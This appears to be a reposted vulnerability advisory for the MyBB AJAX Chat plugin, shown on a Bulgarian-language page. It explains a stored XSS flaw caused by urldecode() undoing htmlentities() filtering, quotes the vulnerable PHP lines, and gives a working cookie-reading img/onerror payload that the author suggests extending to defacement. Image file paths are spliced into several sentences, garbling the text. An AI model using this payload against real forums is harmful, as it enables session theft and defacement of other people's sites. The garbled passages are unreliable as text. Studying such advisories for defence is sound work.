# Title: MyBB AJAX Chat Persistent XSS Vulnerability
# Date: 12/12/2012
# Exploit Author: Mr. P-teo
# Vendor Homepage: http://www.mybb.com/
# Software Link: http://mods.mybb.com/view/ajax-chat
# Version: 1
# Tested on: Windows

The Persistent XSS vulnerability lies within the chat_frame.php page.

*** Persistent / Stored XSS ***

Although the message is filter with the htmlentities function below.

    $db->insert_query($tbl, array('uid' => $mybb->user['uid'], 'message' => $db->escape_string(htmlentities($message)), 'date' => time()));


The vulnerability occurs with the use of the urldecode function, allowing usto bypass the htmlentities with url encoding.

    $msg = urldecode($row["message"]);


The vulnerability can be exploited via the following line, decoded as - "><img src="XSS" onerror="alert(document.cookie)" />


This can beexpanded on with defaces etc, alert is just a basic example.

Brought to you be Mr. P-teo.
Twitter: http://twitter.com/MrPteo
Rate this post
Брой прочитания на тази страница: 941
MyBB AJAX Chat Persistent XSS Vulnerability
Tagged on:

Вашият коментар

Вашият имейл адрес няма да бъдепубликуван.Задължителните полета саотбелязани с *